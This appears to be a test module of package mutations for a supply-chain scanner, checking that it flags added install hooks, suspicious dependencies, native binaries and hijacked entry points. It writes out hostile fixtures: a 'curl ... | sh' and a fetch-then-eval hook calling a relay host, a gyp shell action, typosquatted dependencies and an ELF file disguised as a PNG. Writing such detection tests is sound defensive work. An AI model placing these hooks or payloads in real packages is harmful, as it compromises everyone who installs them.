// What the package itself gained: hooks, dependencies, binaries, entry points.
import { RELAY, accept } from './common.mjs';

const HOOK = 'scripts/setup.mjs';
const BENIGN = 'console.log("ready");\n';
const HOSTILE = `import { execSync } from "node:child_process";\nexecSync("curl -s https://${RELAY}/i | sh");\n`;

const mutation = (id, wanted, apply, base) => ({ id, needs: [], accept: wanted, apply, base });
const scripts = (server, entries) =>
    server.manifest((manifest) => {
        manifest.scripts = { ...manifest.scripts, ...entries };
    });
const depend = (server, entries) =>
    server.manifest((manifest) => {
        manifest.dependencies = { ...manifest.dependencies, ...entries };
    });
const withHook = (server) => {
    server.ship(HOOK, BENIGN);
    scripts(server, { postinstall: `node ${HOOK}` });
};
const hook = (...values) => accept('install-hook', ...values);

/** The head of an ELF shared object for x86-64, which is all that tells one from other files. */
const ELF = Buffer.concat([Buffer.from('7f454c4602010100', 'hex'), Buffer.alloc(8), Buffer.from('03003e0001000000', 'hex'), Buffer.alloc(4072)]);
const WASM = Buffer.from('0061736d0100000001040160000003020100', 'hex');

export default [
    mutation('hook-added', hook('postinstall'), withHook),
    mutation('hook-inline', hook('preinstall'), (server) =>
        scripts(server, { preinstall: `node -e "fetch('https://${RELAY}/i').then(r=>r.text()).then(eval)"` })),
    mutation('hook-command-changed', hook('postinstall'), (server) =>
        scripts(server, { postinstall: `node ${HOOK} && curl -s https://${RELAY}/i` }), withHook),
    mutation('hook-script-changed', hook('postinstall', HOOK), (server) => server.ship(HOOK, HOSTILE), withHook),
    mutation('hook-arms-shipped-file', hook('postinstall'), (server) =>
        scripts(server, { postinstall: 'node scripts/release.mjs' }),
        (server) => server.ship('scripts/release.mjs', HOSTILE)),
    mutation('hook-script-imports-shipped-file', hook('postinstall', 'scripts/release.mjs', HOOK), (server) =>
        server.ship(HOOK, `import "./release.mjs";\n${BENIGN}`),
        (server) => {
            withHook(server);
            server.ship('scripts/release.mjs', HOSTILE);
        }),
    mutation('gyp-added', accept('install-hook native-binary', 'gyp'), (server) =>
        server.ship('binding.gyp', '{"targets":[{"target_name":"x","type":"none","actions":[{"action_name":"x","inputs":[],"outputs":["y"],"action":["sh","-c","id"]}]}]}\n')),
    mutation('dependency-look-alike', accept('dependency-added dependency-source', 'axois', 'expresss'), (server) =>
        depend(server, { axois: '^1.0.0' })),
    mutation('dependency-unused', accept('dependency-added dependency-source', 'orvanda-logger'), (server) =>
        depend(server, { 'orvanda-logger': '^1.0.2' })),
    mutation('dependency-git', accept('dependency-source dependency-added', 'orvanda'), (server) =>
        depend(server, { 'orvanda-utils': 'git+https://git.orvanda-metrics.net/utils.git#main' })),
    mutation('dependency-url', accept('dependency-source dependency-added', 'orvanda'), (server) =>
        depend(server, { 'orvanda-utils': `https://${RELAY}/utils-1.0.0.tgz` })),
    mutation('dependency-alias', accept('dependency-source', 'orvanda', 'dotenv'), (server) =>
        depend(server, { 'dotenv-config': 'npm:orvanda-dotenv@1.0.0' })),
    mutation('dependency-source-changed', accept('dependency-source', 'orvanda', 'git'), (server) =>
        server.manifest((manifest) => {
            const name = Object.keys(manifest.dependencies)[0];
            manifest.dependencies[name] = 'github:orvanda/fork#3f2a1c';
        }), (server) => depend(server, { '@modelcontextprotocol/sdk': '^1.20.0' })),
    mutation('native-added', accept('native-binary', 'addon.node'), (server) => server.ship('prebuilds/addon.node', ELF)),
    mutation('native-disguised', accept('native-binary', 'logo.png'), (server) => server.ship('assets/logo.png', ELF)),
    mutation('wasm-added', accept('native-binary', 'core.wasm'), (server) => server.ship('lib/core.wasm', WASM)),
    mutation('bin-redirected', accept('entry-point', 'helper.mjs', 'bin'), (server) => {
        server.ship('helper.mjs', `#!/usr/bin/env node\n${HOSTILE}`);
        server.manifest((manifest) => {
            manifest.bin = { ...(typeof manifest.bin === 'object' ? manifest.bin : {}), npm: './helper.mjs' };
        });
    }),
];
